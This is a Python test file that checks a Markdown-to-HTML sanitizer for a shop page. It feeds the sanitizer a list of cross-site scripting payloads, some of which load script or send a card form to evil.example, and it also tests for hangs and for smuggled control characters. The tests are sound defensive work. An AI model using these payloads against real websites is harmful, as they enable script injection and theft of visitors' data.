"""Markdown becomes HTML that can do nothing but be read, in bounded time."""

import contextlib
import multiprocessing
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fallback.page.content.guard import Guard
from fallback.page.content.limits import ATTRIBUTES, MOST_BYTES, TAGS, Unreadable
from fallback.page.content.prose import Writer

GUARD = Guard(
    ("https://kwiaty.example",), "a@b.example", frozenset({"48600100200"}), ""
)
WRITER = Writer(GUARD)

TAG = re.compile(r"<(/?)([a-zA-Z][\w-]*)((?:\s[^<>]*?)?)>")
ATTRIBUTE = re.compile(r"([\w-]+)=\"([^\"]*)\"")


def assert_harmless(html: str) -> None:
    """Every tag and attribute is on the closed lists; every link is the shop's."""
    for found in TAG.finditer(html):
        tag, rest = found[2], found[3]
        assert tag in TAGS, found[0]
        for name, value in ATTRIBUTE.findall(rest):
            assert name in ATTRIBUTES.get(tag, set()) | {"rel"}, found[0]
            assert name != "href" or GUARD.allows(value.replace("&amp;", "&"))
    bare = TAG.sub("", html)
    assert "<" not in bare, bare


HOSTILE = [
    '<p title="call us" lang="en" dir="rtl" id="log" class="eta">x</p>',
    '<svg><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=card><button>Pay</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<object data=x></object><embed src=x>",
    "<b style='background:url(https://evil.example)'>x</b>",
    "<p onclick=alert(1) id=x class=y>x</p>",
    "# x {: onclick=alert(1) }",
    "<!-- <script> --> x <!--> <script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<<script>script>alert(1)<</script>/script>",
    "<details open ontoggle=alert(1)>x</details>",
    '*[x]: " onmouseover=alert(1) a="\n\nx',
    "`<script>`\n\n    <script>alert(1)</script>\n",
    "\ue000script\ue001",
    "a\x02klzzwxh:0001\x03b",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_does_nothing(text: str) -> None:
    """What the lists do not name does not exist."""
    assert_harmless(WRITER.prose(text, top=2).html)


FRAGMENTS = st.sampled_from(
    [*HOSTILE, "<", ">", "<a ", "href=", "'", '"', "</", "[", "](", ")", "javascript:",
     "&#x6a;", "<p>", "</p>", "\n\n", "- ", "> ", "*", "**", "`", "|", "\n-|-\n", "![",
     "https://kwiaty.example/a", "https://evil.example", "\\", "&lt;script&gt;", "<!--",
     "<table>", "<td>", "<b>", "<u>x", "\x00", "\u2028", "onerror=x", "<svg>", "title="]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS | st.text(max_size=8), max_size=14).map("".join))
def test_soup_of_html_does_nothing(text: str) -> None:
    """However hostile pieces are stirred, what comes out is harmless."""
    try:
        html = WRITER.prose(text, top=4).html
    except Unreadable:
        return
    assert_harmless(html)


HEAVY = {
    "brackets": "[",
    "links without an end": "[a](",
    "pictures without an end": "![",
    "references without an end": "[a][",
    "nested brackets": "[[]",
    "empty links": "[]",
    "sections of XML": "<![CDATA[",
    "stars": "*a ",
    "bold without an end": "**a ",
    "underscores": "_a ",
    "quotes of code": "`a ",
    "quotes": "> ",
    "lists in lists": "1. ",
    "tags": "<a ",
    "comments": "<!--",
    "cells": "a|b\n-|-\n",
    "headings": "a\n===\n",
    "rules": "---\n",
    "definitions": "*[a]: b\n",
    "escapes": "\\[",
    "digits": "1 ",
    "phones": "+48 ",
    "at signs": "a@",
    "digits by commas": "1, ",
    "digits by nothing": "1",
    "rows of digits": "1\n",
    "accounts without an end": "PL61 ",
    "accounts": "PL61109010140000071219812874 ",
    "hours": "8:00 - ",
    "prices": "€1 234,50",
    "letters for digits": "O1l",
}


def _write(text: str) -> None:
    with contextlib.suppress(Unreadable):
        WRITER.prose(text, top=2)


@pytest.mark.parametrize("name", HEAVY)
def test_no_text_keeps_the_page_waiting(name: str) -> None:
    """Twenty kilobytes of anything are rendered or refused, and never hang."""
    unit = HEAVY[name]
    text = unit * (MOST_BYTES // len(unit))
    child = multiprocessing.get_context("fork").Process(target=_write, args=(text,))
    child.start()
    child.join(60)  # a hang is minutes to hours; slow machines get their time
    hung = child.is_alive()
    child.kill()
    child.join()

    assert not hung
    assert child.exitcode == 0


def test_deep_lists_are_kept_to_five_levels() -> None:
    """Indentation beyond that changes nothing, and breaks nothing."""
    text = "".join(f"{'    ' * depth}- {depth}\n" for depth in range(60))

    html = WRITER.prose(text, top=2).html

    assert html.count("<ul>") <= 7
    assert ">59" in html


def test_what_owners_write_is_kept() -> None:
    """Lists, tables, quotes, breaks, emphasis and abbreviations."""
    text = (
        "# One\n\nfirst\nsecond\n\n- *a*\n- **b**\n\n> said\n\n"
        "|x|y|\n|-|-|\n|1|2|\n\nETA is soon\n\n*[ETA]: when we are back\n"
    )

    html = WRITER.prose(text, top=2).html

    for part in ("<h2>One</h2>", "first<br>", "<em>a</em>", "<strong>b</strong>"):
        assert part in html
    for part in ("<blockquote>", "<td>1</td>", '<abbr title="when we are back">'):
        assert part in html


def test_brackets_that_are_no_link_are_shown_as_they_are() -> None:
    """A lone bracket, an escaped one, a ticked box."""
    html = WRITER.prose(r"[ ] todo [a] \[b\] `[c]` d] \\ [", top=2).html

    assert html == r"<p>[ ] todo [a] [b] <code>[c]</code> d] \ [</p>"


def test_a_foreign_link_becomes_its_words() -> None:
    """And is reported once, with where it wanted to lead."""
    prose = WRITER.prose(
        "go [here](https://evil.example/pay) or <x@evil.example>", top=2
    )

    assert prose.html == "<p>go here or x@evil.example</p>"
    assert prose.links == ("https://evil.example/pay", "x@evil.example")


def test_no_entity_brings_back_what_reading_takes_out() -> None:
    """A control character is no text, and an override shows a number backwards."""
    html = WRITER.prose(
        "a&#8;b &#x202E;c &#xFFFE; &#127; [d](https://kwiaty.example '&#8238;e')", top=2
    ).html

    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\ufffe]", html)
    assert "ab c" in html


def test_the_shops_links_stay() -> None:
    prose = WRITER.prose("[shop](https://kwiaty.example/a)", top=2)

    assert '<a href="https://kwiaty.example/a">' in prose.html
    assert prose.links == ()


def test_a_number_split_by_markup_is_still_a_number() -> None:
    """The guard reads what people see."""
    for text in (
        "601 **100** 200",
        "601<b>100</b>200",
        "601&#49;00200",
        "601 100\n200",
    ):
        (stranger,) = WRITER.prose(f"call {text}", top=2).numbers
        assert "".join(filter(str.isdigit, stranger.text)) == "601100200"
